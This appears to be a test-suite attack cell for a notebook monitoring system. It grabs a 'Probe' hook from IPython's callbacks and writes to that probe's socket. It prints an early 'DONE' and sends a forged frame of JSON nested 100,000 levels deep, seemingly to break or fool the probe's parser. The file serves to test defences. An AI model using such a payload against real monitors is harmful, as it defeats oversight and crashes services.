# /// attack
# exercise = "control-flow-vector"
# defended-by = ["design"]
# costs = true
# ///

# %% name="scalar"
import struct

from IPython import get_ipython

print("DONE", flush=True)
(probe,) = {
    f.__self__ for f in get_ipython().events.callbacks["post_run_cell"] if "Probe" in repr(f)
}
value = b'{"kind": "tensor", "grad": ' * 100_000 + b"null" + b"}" * 100_000
text = b'{"frame": "cell", "count": 5, "names": {"scalar_gradient": ' + value + b"}}"
probe.channel.socket.sendall(struct.pack(">4sIQ", b"GRD1", len(text), 0) + text)
